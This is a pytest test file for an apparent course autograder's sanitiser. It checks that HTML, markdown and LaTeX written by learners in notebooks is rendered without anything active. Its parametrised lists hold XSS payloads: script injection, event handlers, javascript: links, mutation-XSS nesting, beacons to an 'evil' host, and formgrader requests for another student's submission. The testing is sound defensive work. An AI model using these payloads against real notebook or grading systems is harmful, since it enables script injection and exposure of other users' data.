"""What learners wrote is shown without anything that acts, and otherwise as it was."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jupyter_lab import chromium
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograder.building import released, solved
from autograder.exercises import LESSONS
from autograder.grading.cleaning import clean_html, clean_markdown, clean_math, shown_literally

PICTURE = "data:image/png;base64,iVBORw0KGgo="
HTML_THAT_ACTS = [
    "<script>act()</script>",
    "<ScRiPt src=//evil/x.js></script>",
    "<img src=x onerror=act()>",
    "<img src='/formgrader/?path=submitted/EVE/01_neuron'>",
    "<img src='../../?path=submitted/EVE'>",
    "<img src='https://evil/seen.png'>",
    "<img src=//evil/seen.png>",
    "<img src='a.png' srcset='https://evil/seen.png 2x'>",
    "<iframe src=/lab></iframe>",
    "<iframe srcdoc='<script>act()</script>'></iframe>",
    "<form action=/formgrader/api><input name=x><button>go</button></form>",
    "<a href='javascript:act()'>x</a>",
    "<a href=' java\nscript:act()'>x</a>",
    "<a href='data:text/html,<script>act()</script>'>x</a>",
    "<a href='evil.html'>x</a>",
    "<a href='/formgrader/?path=x'>x</a>",
    "<a href='%2e%2e/files/evil.HTML'>x</a>",
    "<svg onload=act()><script>act()</script></svg>",
    "<math><mtext><style><img src=x onerror=act()></style></mtext></math>",
    "<style>@import 'https://evil/x.css'; * {display: none}</style>",
    "<link rel=stylesheet href=https://evil/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil'>",
    "<base href=https://evil/>",
    "<object data=/lab></object><embed src=/lab>",
    "<video src=https://evil/x poster=https://evil/y autoplay></video>",
    "<p style='background: url(https://evil/x)'>x</p>",
    "<p style='position: fixed; top: 0; z-index: 9'>over everything</p>",
    "<div class='modal-backdrop navbar-fixed-top'>x</div>",
    "<input autofocus onfocus=act()>",
    "<details open ontoggle=act()>x</details>",
    "<!--[if IE]><script>act()</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=act()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=act()>'></textarea>",
    "<p id=comment name=comment onclick=act()>x</p>",
    "&lt;script&gt;<script>act()",
    "<b <script>act()</script>",
    "$\\href{javascript:act()}{x}$",
    "\\(\\style{position:fixed}{x} \\class{modal}{y} &#92;cssId{a}{z}\\)",
]
MARKDOWN_THAT_ACTS = [
    "![x](/formgrader/?path=submitted/EVE/01_neuron)",
    "![x][y]\n\n[y]: /formgrader/?path=submitted/EVE",
    "![x](https://evil/seen.png)",
    "[x](javascript:act())",
    "[x](jAvAsCrIpT&#58;act())",
    "[x]\n\n[x]: javascript:act()",
    "<javascript:act()>",
    "[x](evil.html)",
    "![x](attachment:missing.png)",
    '![x](attachment:made-up.png "y")',
    "```mermaid\n<script>act()</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=act()> |",
    "> - <script>act()</script>\n>   ![x](//evil/x.png)",
    "`[x](javascript:act())` <script>act()</script>\n\n    [y](javascript:act())\n\n    ![z](/x)",
    "<div>\n\n[x](javascript:act())\n\n</div>",
    "$$\n<script>act()</script>\n$$ <img src=x onerror=act()>",
]
HARMLESS = [
    "# A title\n\nText, *so* and **so**, `x < y`, ~~no~~.\n\n- one\n- two\n\n1. first\n\n> quoted",
    "| a | b |\n|---|:-:|\n| 1 | $x_1 < 2$ |",
    "$$\n\\frac{a}{b} < c\n$$\n\nand $w \\cdot x$, \\begin{align}a &= b\\end{align}",
    "```python\nx = 1\n\nif x < 2:\n    print('<b>')\n```",
    "[a page](https://example.org/x?y=1) and https://example.org, [lesson](../02_gates/02.ipynb)",
    "[below](#below), [words](glossary.md), [mail](mailto:a@example.org)",
    f"![a plot]({PICTURE}) ![beside](figures/plot.png)",
    "- [x] done\n- [ ] not done",
    "Half a surrogate-free text: äöü 你好 \N{GRINNING FACE}",
    "a < b and b > c & d; 3<4",
]


class Acting(HTMLParser):
    """Lists what could act in a piece of a page, by rules of its own."""

    INERT = {"alt", "align", "border", "checked", "class", "colspan", "disabled", "open", "rowspan"}
    INERT |= {"start", "style", "title", "type", "width", "height", "scope", "span", "lang", "dir"}

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style", "iframe", "form", "svg", "math", "object", "embed", "link"):
            self.found.append(tag)
        if tag in ("meta", "base", "video", "audio", "button", "textarea", "noscript", "template"):
            self.found.append(tag)
        for name, value in attrs:
            value = value or ""
            if name == "href" and re.match(r"https?://|mailto:|#|(\.\./)*[\w-][\w./-]*\w$", value):
                acts = re.search(r"\.x?html?$", value, re.IGNORECASE)
            elif name == "src":
                acts = not re.match(r"data:image/\w+;base64,|[\w-][\w/-]*\.png$", value)
            elif name == "style":
                acts = re.search(r"url|position|margin|z-index|display|\\", value)
            elif name == "class":
                acts = re.search(r"modal|navbar", value)
            else:
                acts = name not in self.INERT
            if acts:
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        self.found.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def handle_data(self, data):
        if re.search(r"\\(href|style|class|cssId)\b", data):
            self.found.append(data)


def page_of(*cells):
    """Return what nbconvert makes of cells, and of nothing else."""
    notebook = new_notebook(cells=list(cells))
    for number, cell in enumerate(cells):
        cell.id = f"cell-{number}"
    return HTMLExporter(template_name="basic").from_notebook_node(notebook)[0]


def shown(*cells):
    """Return the pieces of nbconvert's page that are made of the cells' own words."""
    body = page_of(*cells)
    # nbconvert's own, around what is shown.
    body = re.sub(r'<a class="anchor-link"[^>]*>¶</a>|\sid="[^"]*"|\stabindex="[^"]*"', "", body)
    return re.sub(r'\s(data-[\w-]+|role|aria-[\w-]+)="[^"]*"', "", body)


@pytest.mark.parametrize("text", HTML_THAT_ACTS)
def test_html_acts_no_more(text):
    cleaned = clean_html(f"before {text} after")
    assert Acting(f"before {text} after").found
    assert not Acting(cleaned).found
    assert "before" in cleaned
    # But for the order of attributes.
    assert sorted(clean_html(cleaned)) == sorted(cleaned)


@pytest.mark.parametrize("text", MARKDOWN_THAT_ACTS + HTML_THAT_ACTS)
def test_markdown_acts_no_more_as_nbconvert_shows_it(text):
    cleaned = clean_markdown(f"before\n\n{text}\n\nafter")
    assert not Acting(shown(new_markdown_cell(cleaned))).found
    assert "before" in cleaned
    assert clean_markdown(cleaned) == cleaned


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_markdown_stays_as_it_is(text):
    assert clean_markdown(text) == text


@pytest.mark.parametrize("lesson", LESSONS)
def test_the_lessons_stay_as_they_are(lesson):
    for cell in released(solved(lesson)).cells:
        if cell.cell_type == "markdown":
            assert clean_markdown(cell.source) == cell.source


def test_attached_pictures_stay():
    text, attached = "![plot](attachment:plot.png)", {"plot.png": {"image/png": "iVBORw0KGgo="}}
    assert clean_markdown(text, attached) == text
    among_others = clean_markdown(f"{text} <script>act()</script>", attached)
    assert f'src="{PICTURE}"' in among_others and not Acting(among_others).found
    made_up = {"plot.png": {'text/html"><script>act()</script>': "x"}}
    assert not Acting(clean_markdown(text, made_up)).found
    assert not Acting(clean_markdown(text, {"plot.png": {}})).found


def test_formatting_survives_beside_what_acts():
    text = (
        "**Bold**, $x < y$\n\n```\na\n\n\nb\n```\n\n| a |\n|---|\n| b |\n\n<script>act()</script>"
    )
    page = shown(new_markdown_cell(clean_markdown(text)))
    for kept in ("<strong>Bold</strong>", "$x &lt; y$", "<td>b</td>"):
        assert kept in page
    (code,) = re.findall(r"<code>(.*?)</code>", page, re.DOTALL)
    assert code.replace("&#10;", "\n").rstrip() == "a\n\n\nb"


def test_a_table_of_pandas_stays_a_table():
    table = (
        '<div><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
        "<th>x</th></tr></thead><tbody><tr><th>0</th><td>1.5</td></tr></tbody></table></div>"
    )
    cleaned = clean_html(f"<style scoped>.dataframe {{color: red}}</style>{table}")
    assert cleaned.replace("text-align:right", "text-align: right;") == table


@pytest.mark.browser
@pytest.mark.slow
def test_in_a_browser_nothing_acts_and_nothing_is_asked_for():
    everything = MARKDOWN_THAT_ACTS + HTML_THAT_ACTS
    with chromium() as browser:
        acted, asked = browse(browser, new_markdown_cell("\n\n".join(HTML_THAT_ACTS[:4])))
        assert acted and any("?path=" in address for address in asked)
        cleaned = [new_markdown_cell(clean_markdown(text)) for text in everything]
        cleaned += [new_raw_cell(clean_html(text)) for text in HTML_THAT_ACTS]
        html = [new_output("display_data", {"text/html": clean_html(t)}) for t in HTML_THAT_ACTS]
        cleaned.append(new_code_cell("1", outputs=html))
        acted, asked = browse(browser, *cleaned)
    assert not acted
    # A picture beside the notebook is one of those that stay.
    assert {address.rpartition("/")[2] for address in asked} <= {"a.png"}


def browse(browser, *cells):
    """Open cells as a page, and follow its links; return what ran, and what it asked for."""
    acted, asked = [], []
    place = "http://course.invalid/submissions/page"

    def answer(route):
        if route.request.url == place:
            route.fulfill(body=page_of(*cells), content_type="text/html; charset=utf-8")
        else:
            asked.append(route.request.url)
            route.abort()

    page = browser.new_page()
    page.route("**/*", answer)
    page.expose_function("act", lambda: acted.append(True))
    page.goto(place)
    for link in page.locator("a[href]:not(.anchor-link)").element_handles():
        link.dispatch_event("click")
    page.wait_for_load_state("networkidle")
    page.close()
    return acted, asked


def test_formulas_lead_nowhere():
    assert clean_math(r"$\href{javascript:act()}{x}$") == r"$\text{javascript:act()}{x}$"
    assert clean_math(r"$\frac{1}{2} \hrefs \styled$") == r"$\frac{1}{2} \hrefs \styled$"


def test_what_is_shown_literally_is_shown_to_the_letter():
    text = "# <b>x</b> $y$ & *z*\n\n[a](b)\n"
    for cell in (new_markdown_cell(shown_literally(text)), new_raw_cell(shown_literally(text))):
        page = shown(cell)
        assert not Acting(page).found
        assert "&lt;b&gt;x&lt;/b&gt;" in page and "*z*" in page and "[a](b)" in page


PIECES = st.sampled_from(
    [*HTML_THAT_ACTS, *MARKDOWN_THAT_ACTS, *HARMLESS]
    + ["<", ">", "&", '"', "`", "```", "$", "$$", "\n", "\n\n", "    ", "> ", "- ", "|", "\\", "*"]
    + ["<div>", "</div>", "<p>", "<pre>", "</pre>", "<!--", "-->", "[", "](", ")", "\x00", "\u2028"]
    + ["<details>", "<table><tr><td>", "<a ", "<img ", "'", "=", "\t", "\v", "\f", "\r", "\xa0"]
)


@pytest.mark.slow
@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=8).map("".join))
def test_whatever_is_written_nothing_acts(text):
    assert not Acting(clean_html(text)).found
    cells = [new_markdown_cell(clean_markdown(text)), new_raw_cell(clean_html(text))]
    output = new_output("display_data", {"text/html": clean_html(text)})
    assert not Acting(shown(*cells, new_code_cell("1", outputs=[output]))).found
